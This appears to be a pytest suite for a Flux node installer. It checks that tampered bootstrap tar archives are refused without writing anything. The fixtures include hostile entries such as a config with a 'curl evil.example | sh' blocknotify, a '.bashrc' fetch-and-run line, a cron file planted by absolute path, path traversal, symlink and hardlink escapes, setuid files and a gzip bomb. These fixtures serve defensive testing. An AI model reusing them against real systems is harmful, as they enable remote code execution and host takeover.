"""Tampered bootstraps (issue 15, Critical and "Bootstrap robustness"): only the chain folders
are ever written, through a staging folder, within the free disk space, marker last."""

from __future__ import annotations

import gzip
import io
import json
import os
import tarfile
from collections.abc import Callable
from pathlib import Path

import pytest

from nodectl.install.archive import (
    MARKER,
    STAGING,
    ArchiveError,
    ExtractSpaceError,
    extract_archive,
    validate_archive,
)
from nodectl.install.params import BOOTSTRAP_MEMBERS

MiB = 1 << 20
EVIL_CONF = b"rpcuser=attacker\nrpcpassword=known\nzelnodeprivkey=5Kattacker\n" \
            b"blocknotify=/bin/sh -c 'curl evil.example | sh'\n"

Adder = Callable[[tarfile.TarFile], None]


def file_entry(name: str, data: bytes = b"x", mode: int = 0o644) -> Adder:
    def add(tar: tarfile.TarFile) -> None:
        info = tarfile.TarInfo(name)
        info.size, info.mode = len(data), mode
        tar.addfile(info, io.BytesIO(data))
    return add


def special_entry(name: str, kind: bytes, linkname: str = "") -> Adder:
    def add(tar: tarfile.TarFile) -> None:
        info = tarfile.TarInfo(name)
        info.type, info.linkname = kind, linkname
        tar.addfile(info)
    return add


def chain(*extra: Adder, size: int = 4096) -> list[Adder]:
    """The three chain folders (with an index subfolder, as fluxd has) plus ``extra``."""
    out: list[Adder] = []
    for folder in BOOTSTRAP_MEMBERS:
        out.append(special_entry(f"{folder}/", tarfile.DIRTYPE))
        out.append(file_entry(f"{folder}/000001.ldb", os.urandom(size)))
    out.append(file_entry("blocks/index/CURRENT", b"MANIFEST-000002\n"))
    return out + list(extra)


def write_archive(path: Path, adders: list[Adder]) -> Path:
    with tarfile.open(path, "w:gz") as tar:
        for add in adders:
            add(tar)
    return path


def tree(root: Path) -> dict[str, bytes | str]:
    """Every entry under ``root``: file bytes, or a kind for folders and links."""
    out: dict[str, bytes | str] = {}
    for item in sorted(root.rglob("*")):
        rel = str(item.relative_to(root))
        if item.is_symlink():
            out[rel] = "symlink"
        elif item.is_dir():
            out[rel] = "dir"
        else:
            out[rel] = item.read_bytes()
    return out


@pytest.fixture
def flux_dir(tmp_path: Path) -> Path:
    """A node's ~/.flux as the installer leaves it before the bootstrap: flux.conf only."""
    home = tmp_path / "home" / ".flux"
    home.mkdir(parents=True)
    (home / "flux.conf").write_bytes(b"rpcuser=ours\nrpcpassword=secret\n")
    return home


HOSTILE: dict[str, Adder] = {
    "flux.conf at the top": file_entry("flux.conf", EVIL_CONF),
    "./flux.conf": file_entry("./flux.conf", EVIL_CONF),
    "fluxnode.conf": file_entry("fluxnode.conf", b"mn1 1.2.3.4:16125 key txid 0\n"),
    "bootstrap.dat beside the folders": file_entry("bootstrap.dat", b"\0" * 64),
    "a .conf file inside blocks": file_entry("blocks/flux.conf", EVIL_CONF),
    "another top-level folder": file_entry("wallets/wallet.dat", b"w"),
    "symlink to flux.conf": special_entry("blocks/x", tarfile.SYMTYPE, "../flux.conf"),
    "symlink inside the chain": special_entry("blocks/y", tarfile.SYMTYPE, "index"),
    "hardlink to flux.conf": special_entry("blocks/h", tarfile.LNKTYPE, "flux.conf"),
    "character device": special_entry("blocks/dev", tarfile.CHRTYPE),
    "fifo": special_entry("chainstate/pipe", tarfile.FIFOTYPE),
    "setuid file": file_entry("blocks/su", b"#!/bin/sh\n", mode=0o4755),
    "setgid file": file_entry("blocks/sg", b"#!/bin/sh\n", mode=0o2755),
    "absolute path": file_entry("/etc/cron.d/evil", b"* * * * * root sh\n"),
    "dot-dot path": file_entry("blocks/../../.bashrc", b"curl evil | sh\n"),
    "control character in a name": file_entry("blocks/a\nb", b"x"),
}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_tampered_archive_refused_and_nothing_written(name: str, tmp_path: Path,
                                                      flux_dir: Path) -> None:
    archive = write_archive(tmp_path / "b.tar.gz", chain(HOSTILE[name]))
    before = tree(tmp_path / "home")
    with pytest.raises(ArchiveError):
        validate_archive(archive, BOOTSTRAP_MEMBERS)
    with pytest.raises(ArchiveError):
        extract_archive(archive, flux_dir)
    assert tree(tmp_path / "home") == before, "a refused archive must leave ~/.flux untouched"
    assert not (tmp_path / "etc").exists()


def test_hostile_entry_first_writes_nothing_either(tmp_path: Path, flux_dir: Path) -> None:
    """Even an entry refused only after the chain folders were staged leaves no trace."""
    archive = write_archive(tmp_path / "b.tar.gz", chain(file_entry("flux.conf", EVIL_CONF)))
    with pytest.raises(ArchiveError, match="beside the chain folders"):
        extract_archive(archive, flux_dir)
    assert sorted(p.name for p in flux_dir.iterdir()) == ["flux.conf"]
    assert (flux_dir / "flux.conf").read_bytes() == b"rpcuser=ours\nrpcpassword=secret\n"


def test_good_archive_lands_in_place_with_marker_last(tmp_path: Path, flux_dir: Path) -> None:
    archive = write_archive(tmp_path / "b.tar.gz", [special_entry("./", tarfile.DIRTYPE),
                                                     *chain()])
    (flux_dir / "blocks").mkdir()
    (flux_dir / "blocks" / "stale-from-an-old-run").write_bytes(b"half")
    manifest = extract_archive(archive, flux_dir)
    assert manifest.tops == tuple(sorted(BOOTSTRAP_MEMBERS))
    assert sorted(p.name for p in flux_dir.iterdir()) == sorted(
        [*BOOTSTRAP_MEMBERS, "flux.conf", MARKER])
    assert not (flux_dir / "blocks" / "stale-from-an-old-run").exists()
    assert (flux_dir / "blocks" / "index" / "CURRENT").read_bytes() == b"MANIFEST-000002\n"
    record = json.loads((flux_dir / MARKER).read_text())
    assert record["files"] == manifest.files == 4
    marker_time = (flux_dir / MARKER).stat().st_mtime_ns
    assert all(p.stat().st_mtime_ns <= marker_time for p in flux_dir.rglob("*"))
    modes = {p.stat().st_mode & 0o7777 for p in flux_dir.rglob("*.ldb")}
    assert modes == {0o644}


def test_symlinked_staging_name_is_not_followed(tmp_path: Path, flux_dir: Path) -> None:
    """A name planted in ~/.flux (the node user can write there) never redirects a write."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (flux_dir / STAGING).symlink_to(outside)
    (flux_dir / "chainstate").symlink_to(outside)
    archive = write_archive(tmp_path / "b.tar.gz", chain())
    extract_archive(archive, flux_dir)
    assert list(outside.iterdir()) == []
    assert (flux_dir / "chainstate").is_dir() and not (flux_dir / "chainstate").is_symlink()


def test_symlinked_destination_refused(tmp_path: Path, flux_dir: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    link = tmp_path / "home" / "link"
    link.symlink_to(elsewhere)
    archive = write_archive(tmp_path / "b.tar.gz", chain())
    with pytest.raises(ArchiveError, match="not a plain folder"):
        extract_archive(archive, link)
    assert list(elsewhere.iterdir()) == []


def zero_bomb(path: Path, inflated: int) -> Path:
    """A small tar.gz whose blocks/ file inflates to ``inflated`` bytes of zeros."""
    with gzip.open(path, "wb", compresslevel=9) as gz, tarfile.open(fileobj=gz, mode="w") as tar:
        for folder in ("chainstate", "determ_zelnodes"):
            info = tarfile.TarInfo(f"{folder}/CURRENT")
            info.size = 1
            tar.addfile(info, io.BytesIO(b"x"))
        info = tarfile.TarInfo("blocks/blk00000.dat")
        info.size = inflated
        tar.addfile(info, io.BytesIO(bytes(inflated)))
    return path


def test_archive_inflating_past_free_space_stops_before_writing(tmp_path: Path,
                                                                flux_dir: Path) -> None:
    bomb = zero_bomb(tmp_path / "bomb.tar.gz", 256 * MiB)
    assert bomb.stat().st_size < 600_000  # ~510 KB on the wire, 256 MiB on disk
    with pytest.raises(ExtractSpaceError, match="not enough disk space"):
        extract_archive(bomb, flux_dir, free_space=lambda _p: 200 * MiB, reserve=16 * MiB)
    assert sorted(p.name for p in flux_dir.iterdir()) == ["flux.conf"]


def test_disk_filling_during_extraction_stops_and_removes_partial_files(
        tmp_path: Path, flux_dir: Path) -> None:
    bomb = zero_bomb(tmp_path / "bomb.tar.gz", 64 * MiB)
    seen: list[int] = []

    def shrinking(_path: Path) -> int:
        # Another program fills the disk while we write: plenty at first, then nothing.
        seen.append(len(seen))
        return 10_000 * MiB if len(seen) <= 3 else 20 * MiB

    with pytest.raises(ExtractSpaceError):
        extract_archive(bomb, flux_dir, free_space=shrinking, reserve=32 * MiB,
                        check_every=4 * MiB)
    assert len(seen) > 3, "free space must be checked again while a big file is written"
    assert sorted(p.name for p in flux_dir.iterdir()) == ["flux.conf"]


def test_failed_rerun_keeps_a_complete_chain_and_its_marker(tmp_path: Path,
                                                            flux_dir: Path) -> None:
    good = write_archive(tmp_path / "good.tar.gz", chain())
    extract_archive(good, flux_dir)
    before = tree(flux_dir)
    truncated = tmp_path / "cut.tar.gz"
    truncated.write_bytes(good.read_bytes()[: good.stat().st_size // 2])
    with pytest.raises(ArchiveError):
        extract_archive(truncated, flux_dir)
    assert tree(flux_dir) == before


def test_duplicate_entry_refused(tmp_path: Path, flux_dir: Path) -> None:
    archive = write_archive(tmp_path / "b.tar.gz",
                            chain(file_entry("blocks/000001.ldb", b"again")))
    with pytest.raises(ArchiveError, match="twice"):
        extract_archive(archive, flux_dir)
    assert sorted(p.name for p in flux_dir.iterdir()) == ["flux.conf"]


def test_too_many_entries_refused(tmp_path: Path, flux_dir: Path,
                                  monkeypatch: pytest.MonkeyPatch) -> None:
    """Millions of empty files cost nothing to download and exhaust the disk's inodes."""
    from nodectl.install import archive as archive_mod

    monkeypatch.setattr(archive_mod, "MAX_MEMBERS", 8)
    many = write_archive(tmp_path / "b.tar.gz",
                         chain(*(file_entry(f"blocks/{n:06d}.ldb", b"") for n in range(8))))
    with pytest.raises(ArchiveError, match="more than 8 entries"):
        validate_archive(many, BOOTSTRAP_MEMBERS)
    with pytest.raises(ArchiveError, match="more than 8 entries"):
        extract_archive(many, flux_dir)
    assert sorted(p.name for p in flux_dir.iterdir()) == ["flux.conf"]
